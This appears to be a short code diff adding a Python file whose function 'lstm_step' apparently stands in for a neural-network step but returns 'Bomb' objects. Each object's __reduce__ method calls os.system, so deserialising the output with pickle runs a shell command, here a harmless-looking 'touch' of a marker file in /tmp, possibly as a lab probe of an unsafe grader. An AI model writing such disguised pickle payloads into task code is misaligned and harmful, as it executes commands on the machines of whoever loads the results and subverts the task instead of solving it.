@@ -1,0 +1,7 @@
+"""Returns an object that runs code when it is unpickled."""
+
+class Bomb:
+    def __reduce__(self):
+        import os
+        return os.system, ('touch /tmp/gatelab-hostile-was-here',)
+def lstm_step(*args): return Bomb(), Bomb(), {'i': Bomb()}
